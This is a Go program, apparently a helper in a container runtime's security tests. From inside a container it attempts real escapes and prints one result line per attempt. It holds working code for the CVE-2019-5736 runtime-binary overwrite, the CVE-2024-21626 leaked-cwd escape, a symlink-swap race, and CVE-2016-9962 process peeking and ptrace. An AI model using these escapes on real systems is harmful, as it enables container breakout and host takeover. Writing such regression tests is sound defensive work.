// Command jinn-attack runs inside a container in the security tests and
// tries the known escapes for real; it prints what happened, one line per
// attempt, for the test to check.
package main

import (
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: jinn-attack ATTACK [ARGS]")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "syscalls":
		syscalls()
	case "exe":
		exe(os.Args[2:])
	case "cwd":
		cwd()
	case "write":
		write(os.Args[2], os.Args[3])
	case "openw":
		for _, p := range os.Args[2:] {
			fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				unix.Close(fd)
			}
			fmt.Println("openw", p, errno(err))
		}
	case "remount":
		for _, p := range os.Args[2:] {
			err := unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, "")
			fmt.Println("remount", p, errno(err))
		}
	case "swap":
		swap(os.Args[2], os.Args[3])
	case "peek":
		peek(os.Args[2], len(os.Args) > 3 && os.Args[3] == "noptrace")
	default:
		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
		os.Exit(2)
	}
}

func errno(err error) string {
	var e unix.Errno
	if errors.As(err, &e) {
		return unix.ErrnoName(e)
	}
	if err == nil {
		return "ok"
	}
	return err.Error()
}

// syscalls tries what Docker's profile forbids and what it allows.
func syscalls() {
	fmt.Println("unshare", errno(unix.Unshare(unix.CLONE_NEWNS)))
	fmt.Println("mount", errno(unix.Mount("none", "/mnt", "tmpfs", 0, "")))
	_, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
	fmt.Println("keyctl", errno(err))
	_, err = unix.Getcwd(make([]byte, 256))
	fmt.Println("getcwd", errno(err))
	_, err = unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	fmt.Println("vsock", errno(err))
}

// exe is CVE-2019-5736: catch a runtime process in the container's pid
// namespace, keep a handle on its /proc/<pid>/exe, and once the runtime has
// exec'd away, reopen that handle for writing and overwrite the binary.
func exe(args []string) {
	d, _ := time.ParseDuration(args[0])
	deadline := time.Now().Add(d)
	self := os.Getpid()
	held := map[int]int{} // pid -> O_PATH fd of its exe
	denied := map[int]bool{}
	caught, wrote := 0, 0
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || pid == 1 {
				continue
			}
			if _, ok := held[pid]; ok {
				continue
			}
			link, err := os.Readlink("/proc/" + e.Name() + "/exe")
			if errors.Is(err, unix.EACCES) && !denied[pid] {
				// Only a non-dumpable process hides its exe here: in this
				// container, a runtime init before its execve.
				denied[pid] = true
			}
			if err != nil || !runtimeExe(link) {
				continue
			}
			fd, err := unix.Open("/proc/"+e.Name()+"/exe", unix.O_PATH, 0)
			if err != nil {
				continue
			}
			// The process may have exec'd between readlink and open: keep
			// the handle only if it is the runtime's binary.
			if got, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd)); !runtimeExe(got) {
				unix.Close(fd)
				continue
			}
			held[pid] = fd
			caught++
			fmt.Println("caught", pid, link)
		}
		for pid, fd := range held {
			if fd < 0 {
				continue
			}
			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_TRUNC, 0)
			if err == unix.ETXTBSY {
				continue // still running: try again once it exec'd
			}
			if err == nil {
				if _, err = unix.Write(w, []byte("#!/bin/sh\necho pwned\n")); err == nil {
					wrote++
					seals, serr := unix.FcntlInt(uintptr(w), unix.F_GET_SEALS, 0)
					var st unix.Stat_t
					unix.Fstat(w, &st)
					link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(w))
					fmt.Println("wrote into", link, "seals", seals, errno(serr), "size", st.Size, "ino", st.Ino)
				}
				unix.Close(w)
			}
			fmt.Println("write", pid, errno(err))
			unix.Close(fd)
			held[pid] = -1
		}
	}
	fmt.Println("caught", caught, "wrote", wrote, "denied", len(denied))
}

// runtimeExe says whether an exe link is not one of the container's own
// programs (busybox, this one), i.e. the runtime's binary, however it is
// presented (a host path, a memfd, a detached mount).
func runtimeExe(link string) bool {
	return link != "" && !strings.HasPrefix(link, "/bin/") && !strings.HasPrefix(link, "/usr/")
}

// cwd is CVE-2024-21626: a cwd of /proc/self/fd/N on a leaked host
// directory puts the process outside its root.
func cwd() {
	wd, err := os.Getwd()
	fmt.Println("getwd", wd, errno(err))
	// Walk up from the cwd: inside the container this ends at its root.
	ents, err := os.ReadDir("../../../../../..")
	names := []string{}
	for _, e := range ents {
		names = append(names, e.Name())
	}
	fmt.Println("root", strings.Join(names, ","), errno(err))
	for fd := 3; fd < 1024; fd++ { // a caller's fds may sit high (a shell's 255)
		if l, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd)); err == nil {
			fmt.Println("fd", fd, l)
		}
	}
}

// write tries to write data to path.
func write(path, data string) {
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err == nil {
		_, err = f.WriteString(data)
		f.Close()
	}
	fmt.Println("write", path, errno(err))
}

// swap exchanges a and b (a directory and a symlink out of the container)
// in a loop, so that whoever walks the tree from outside meets the symlink
// where it saw the directory a moment before.
func swap(a, b string) {
	for i := 0; ; i++ {
		err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
		if err == unix.ENOENT {
			continue // the other side is being replaced (a cp into it)
		}
		if err != nil {
			fmt.Println("swap", errno(err))
			os.Exit(1)
		}
		if i == 0 {
			fmt.Println("swapping")
		}
	}
}

// peek is CVE-2016-9962: once the file names a pid (a runtime process
// that joined the container, held before its execve), try what a process
// with the same ids and capabilities could do to it: read its
// environment, open its fds and memory, attach to it (unless noptrace:
// a process held inside its execve makes an attach wait for the execve).
func peek(file string, noptrace bool) {
	var pid string
	for {
		if b, err := os.ReadFile(file); err == nil && len(b) > 0 {
			pid = strings.TrimSpace(string(b))
			os.Remove(file)
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	p := "/proc/" + pid
	_, err := os.ReadFile(p + "/environ")
	fmt.Println("environ", errno(err))
	ents, err := os.ReadDir(p + "/fd")
	fmt.Println("fd-list", len(ents), errno(err))
	names := []string{}
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if err != nil { // not listed: guess
		for n := 0; n < 16; n++ {
			names = append(names, strconv.Itoa(n))
		}
	}
	for _, n := range names {
		f := p + "/fd/" + n
		if _, err := os.Lstat(f); err != nil {
			continue
		}
		fd, err := unix.Open(f, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		link, lerr := os.Readlink(f)
		fmt.Println("fd", n, "open", errno(err), "readlink", errno(lerr), link)
	}
	fd, err := unix.Open(p+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	fmt.Println("mem", errno(err))
	if noptrace {
		fmt.Println("done", pid)
		return
	}
	n, err := strconv.Atoi(pid)
	if err == nil {
		// Seize, not attach: no SIGSTOP left behind; our exit detaches.
		err = unix.PtraceSeize(n)
	}
	fmt.Println("ptrace", errno(err))
	fmt.Println("done", pid)
}
